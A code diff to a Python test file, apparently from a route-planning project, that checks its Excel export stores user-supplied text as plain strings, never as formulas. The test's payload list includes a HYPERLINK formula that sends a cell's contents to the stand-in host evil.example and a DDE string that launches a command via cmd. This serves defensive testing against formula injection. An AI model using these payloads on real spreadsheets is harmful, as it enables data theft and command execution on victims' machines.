@@ -12,6 +12,7 @@ import openpyxl
 import pytest
 from test_maps import evil_plan, evil_plan_dir
 
+from routeplan.model.plan import DayOperation
 from routeplan.render.xlsx import DATETIME_FORMAT, MIN_WIDTH, day_sheet_title, plan_workbook
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 812 cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
@@ -67,6 +68,7 @@ def _payload_plan():
         s.name = text
     plan.routes[0].unit = "=1+1"
     plan.routes[0].crew = "@cmd"
+    plan.operations = [DayOperation(plan.start_date, "=OP " + PAYLOADS[6], ("pasar",))]
     return plan
 
 
@@ -83,7 +85,7 @@ def test_user_text_is_text_never_a_formula() -> None:
     for text in PAYLOADS[:-1]:
         assert text in values, text
     assert "Pasar\ufffdKunir\ufffd" in values  # control characters cannot be kept in a workbook
-    assert {"=1+1", "@cmd"} <= values
+    assert {"=1+1", "@cmd", "=OP " + PAYLOADS[6]} <= values  # the day's operation names are text too
     for c in cells:
         assert c.data_type == "s"
         if c.value[:1] in "=+-@":
